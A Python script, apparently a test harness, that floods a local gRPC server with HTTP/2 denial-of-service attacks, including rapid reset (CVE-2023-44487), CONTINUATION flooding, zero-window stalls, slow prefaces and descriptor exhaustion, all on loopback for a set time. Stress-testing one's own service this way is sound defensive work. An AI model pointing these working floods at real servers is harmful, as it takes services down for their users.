"""Connections that misbehave, on loopback only and for a bounded time.

attacks.py NAME PORT SECONDS
"""

import select
import socket
import struct
import sys
import time

import http2

PLAN_ROUTE = "/waystone.v1.PathPlanning/PlanRoute"
HEALTH = "/grpc.health.v1.Health/Check"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def drain(connection, seconds=0.0):
    """Reads what is there, for so long; whether the connection is open."""
    end = time.monotonic() + seconds
    while True:
        ready, _, _ = select.select([connection], [], [], max(0.0, end - time.monotonic()))
        if not ready:
            return True
        try:
            if not connection.recv(1 << 16):
                return False
        except OSError:
            return False


def repeat(port, seconds, make, connection=None):
    """Sends what `make(i)` gives until the time is over; opens another connection if the server ends one."""
    end = time.monotonic() + seconds
    i = 0
    while time.monotonic() < end:
        connection = connection or http2.open_connection(port)
        try:
            for _ in range(64):
                connection.sendall(make(i))
                i += 1
            if not drain(connection):
                connection = None
        except OSError:
            connection = None
    return i


def window_zero(port, seconds, request, streams=1000):
    """Asks a thousand routes and takes no byte of their answers."""
    connection = http2.open_connection(port, initial_window_size=0)
    connection.sendall(b"".join(http2.call(1 + 2 * i, PLAN_ROUTE, request) for i in range(streams)))
    drain(connection, seconds)
    return streams


def reset(port, seconds, method, request):
    cancel = struct.pack(">I", 8)
    return repeat(port, seconds, lambda i: http2.call((1 + 2 * i) & 0x7FFFFFFF, method, request) +
                  http2.frame(http2.RST_STREAM, 0, (1 + 2 * i) & 0x7FFFFFFF, cancel))


def rapid_reset(port, seconds, request):
    """Begins calls and resets them at once (CVE-2023-44487)."""
    return reset(port, seconds, PLAN_ROUTE, request)


def rapid_reset_inline(port, seconds, _):
    """The same with requests of nothing, which are answered before anybody sees the reset."""
    return reset(port, seconds, PLAN_ROUTE, b"")


def rapid_reset_health(port, seconds, _):
    """The same with a service that is gRPC's own."""
    return reset(port, seconds, HEALTH, b"")


def idle_streams(port, seconds, _, connections=90, streams=2000):
    """Calls of which only the headers come, on many connections; ten addresses, as one of which a connection is ended is shunned."""
    begun = b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS, 1 + 2 * i, http2.call_headers(PLAN_ROUTE))
                     for i in range(streams))
    opened = []
    end = time.monotonic() + seconds
    for i in range(connections):
        try:
            opened.append(http2.open_connection(port, f"127.0.0.{66 + i % 10}"))
            opened[-1].sendall(begun)
        except OSError:
            pass
        time.sleep(seconds / 2 / connections)
    while time.monotonic() < end:
        opened = [connection for connection in opened if drain(connection)]
        time.sleep(0.1)
    return connections * streams


def churn(port, seconds, _, calls=1000):
    """Connections that begin a thousand calls and are gone, one after another: none lives to be counted."""
    body = b"".join(http2.call(1 + 2 * i, PLAN_ROUTE, b"") for i in range(calls))
    end = time.monotonic() + seconds
    tried = 0
    while time.monotonic() < end:
        try:
            with http2.open_connection(port) as connection:
                connection.sendall(body)
        except OSError:
            pass
        tried += 1
    return tried


def reflection(port, seconds, _, streams=1000):
    """Open streams of reflection, a service that is gRPC's own and takes a thread for each."""
    connection = http2.open_connection(port)
    connection.sendall(b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS, 1 + 2 * i, http2.call_headers(REFLECTION))
                                for i in range(streams)))
    drain(connection, seconds)
    return streams


def empty_data(port, seconds, _):
    """A call whose request never ends, in frames of nothing."""
    connection = http2.open_connection(port)
    connection.sendall(http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.call_headers(PLAN_ROUTE)))
    return repeat(port, seconds, lambda i: http2.frame(http2.DATA, 0, 1), connection)


def unfinished(port, seconds, _, connections=8, streams=40, size=15 << 20):
    """Requests of 15 MB whose last byte never comes, 40 on each of eight connections; begun anew if the server ends them."""
    begun = message_of(16 << 20)  # more than is sent
    bodies = begun + bytes(size - len(begun))
    senders, left, sent_streams, next_stream = [], [], 0, []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        while len(senders) < connections:
            senders.append(http2.Sender(port))
            left.append({})
            next_stream.append(1)
        is_idle = True
        for at, sender in enumerate(senders):
            sender.listen()
            if not sender.is_open:
                senders[at], left[at], next_stream[at] = http2.Sender(port), {}, 1
                continue
            for stream in [one for one in left[at] if one not in sender.of_stream]:
                del left[at][stream]
            while len(left[at]) < streams:
                sender.begin(next_stream[at], PLAN_ROUTE)
                left[at][next_stream[at]] = 0
                next_stream[at] += 2
                sent_streams += 1
            for stream, sent in left[at].items():
                gone = sender.send(stream, bodies[sent:sent + 16384])
                left[at][stream] += gone
                is_idle = is_idle and gone == 0
        if is_idle:
            time.sleep(0.002)
    return sent_streams


def message_of(size):
    """The beginning of a message of so many bytes."""
    return b"\x00" + struct.pack(">I", size - 5)


def settings(port, seconds, _):
    return repeat(port, seconds, lambda i: http2.settings(initial_window_size=65535 - i % 2))


def ping(port, seconds, _):
    return repeat(port, seconds, lambda i: http2.frame(http2.PING, 0, 0, bytes(8)))


def continuation(port, seconds, _):
    """Headers that never end (CVE-2024-27316 and its like)."""
    more = http2.frame(http2.CONTINUATION, 0, 1, http2.header("x-more", "v" * 100) * 100)
    connection = http2.open_connection(port)
    connection.sendall(http2.frame(http2.HEADERS, 0, 1, http2.call_headers(PLAN_ROUTE)))
    return repeat(port, seconds, lambda i: more, connection)


def many_connections(port, seconds, request, connections=200, calls=3):
    """Long calls on many connections of one address."""
    opened = [http2.open_connection(port) for _ in range(connections)]
    for connection in opened:
        connection.sendall(b"".join(http2.call(1 + 2 * i, PLAN_ROUTE, request) for i in range(calls)))
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for connection in opened:
            drain(connection)
        time.sleep(0.1)
    return connections * calls


def slow_preface(port, seconds, _, connections=200):
    """Connections that say a byte of their greeting now and then."""
    opened = [http2.connect(port) for _ in range(connections)]
    end = time.monotonic() + seconds
    for byte in http2.PREFACE:
        for connection in opened:
            try:
                connection.send(bytes([byte]))
            except OSError:
                pass
        if time.monotonic() > end:
            break
        time.sleep(seconds / len(http2.PREFACE))
    return connections


def descriptors(port, seconds, _, connections=600):
    """More connections than the server has descriptors for."""
    opened = []
    for _ in range(connections):
        connection = socket.socket()
        connection.settimeout(0.05)
        try:
            connection.connect(("127.0.0.1", port))
            opened.append(connection)
        except OSError:
            pass
    time.sleep(seconds)
    return connections


ATTACKS = {attack.__name__: attack for attack in
           (window_zero, rapid_reset, rapid_reset_inline, rapid_reset_health, idle_streams, churn, reflection, empty_data, unfinished, settings, ping, continuation, many_connections, slow_preface,
            descriptors)}

if __name__ == "__main__":
    print(ATTACKS[sys.argv[1]](int(sys.argv[2]), float(sys.argv[3]), sys.stdin.buffer.read()))
